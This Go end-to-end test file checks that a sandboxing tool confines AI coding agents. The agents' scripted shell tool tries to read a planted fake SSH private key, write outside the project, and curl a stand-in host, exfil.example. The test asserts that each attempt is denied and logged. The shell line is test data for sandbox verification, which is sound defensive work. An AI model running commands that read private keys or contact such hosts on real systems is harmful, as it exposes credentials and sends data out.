package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// sandboxScript has the agent's shell tool read the fake key, write
// outside the project (the path filled in) and inside it, fetch a host
// no rule allows, and say in one line how the three ended (words the
// command itself does not hold; no command substitution, which Gemini
// CLI's shell tool refuses). The answer comes only when the tool's
// result, as the program sent it to the model, says all were denied.
const sandboxScript = `
[[rule]]
name = "confined-seen"
contains = "e2e sandbox: try"
body = "key-denied write-refused curl-refused"
  [[rule.step]]
  text = "unused: turn 0 never carries the tool's result"
  [[rule.step]]
  text = "The sandbox held."

[[rule]]
name = "confined-try"
contains = "e2e sandbox: try"
  [[rule.step]]
  shell = '''cat "$HOME/.ssh/id_ed25519" > k.txt 2>&1; (echo out > '%s') 2> o.txt; echo in > inside.txt; if grep -q 'Permission denied' k.txt; then k=denied; else k=read; fi; if grep -q 'Permission denied' o.txt; then o=refused; else o=written; fi; curl -sS https://exfil.example/ > c.txt 2>&1; if grep -q 'response 403' c.txt; then c=refused; else c=sent; fi; echo "key-$k write-$o curl-$c"'''
  [[rule.step]]
  text = "the tool's result never reached the model"
`

// TestRealAgentSandbox runs each of the five programs with --isolate
// fs,net: its shell tool cannot read the fake key in HOME nor write
// outside the project, writes inside it, its curl to a host not allowed
// is refused by csa's proxy (and recorded), and the program still
// answers, reaching the model server on loopback (so the registry's
// state directories, and the endpoints csa finds in each tool's
// configuration, are what it needs); the session records the policy.
func TestRealAgentSandbox(t *testing.T) {
	for _, tc := range []struct{ tool, model string }{{"csa-agent", "anthropic/sandboxed"}, {"claude-code", ""}, {"codex", ""}, {"gemini-cli", ""}, {"opencode", ""}} {
		t.Run(tc.tool, func(t *testing.T) {
			outside := filepath.Join(t.TempDir(), "outside.txt")
			w := newWorld(t, fmt.Sprintf(sandboxScript, outside))
			home := w.getenv("HOME")
			if err := os.MkdirAll(filepath.Join(home, ".ssh"), 0o700); err != nil {
				t.Fatal(err)
			}
			os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("BEGIN FAKE KEY\n"), 0o600)
			args := []string{"run", "--json", "--isolate", "fs,net", "--tool", tc.tool}
			if tc.model != "" {
				args = append(args, "--model", tc.model)
			}
			r := w.run(0, append(args, "e2e sandbox: try")...)
			sent := w.requests()
			if !w.matched("confined-seen") {
				t.Errorf("the tool's result did not say the key, the write and the curl were denied; the model server saw: %s", sent)
			}
			if _, err := os.Stat(outside); err == nil {
				t.Error("the agent wrote outside its project")
			}
			if b, err := os.ReadFile(filepath.Join(w.proj, "inside.txt")); err != nil || string(b) != "in\n" {
				t.Errorf("the write inside the project: %q, %v", b, err)
			}
			if r.Status != "completed" || !strings.Contains(r.Result, "The sandbox held.") {
				t.Fatalf("got %+v; the model server saw: %s", r, sent)
			}
			out, _, _ := w.csa("inspect", "--json", r.SessionID)
			if !strings.Contains(out, `"fs": "landlock"`) || !strings.Contains(out, filepath.Join(home, ".ssh")) ||
				!strings.Contains(out, `"net": "landlock+proxy"`) || !strings.Contains(out, `"denied": `) {
				t.Errorf("the policy is not recorded: %s", out)
			}
			events, _, _ := w.csa("logs", "--events", r.SessionID)
			if !strings.Contains(events, `"type":"sandbox.denied","data":{"host":"exfil.example","operation":"connect","port":443,"proto":"connect"`) {
				t.Errorf("the refused curl is not recorded: %s", events)
			}
		})
	}
}

// getenv is the value of k in the world's environment.
func (w *world) getenv(k string) string {
	for _, kv := range w.env {
		if v, ok := strings.CutPrefix(kv, k+"="); ok {
			return v
		}
	}
	return ""
}
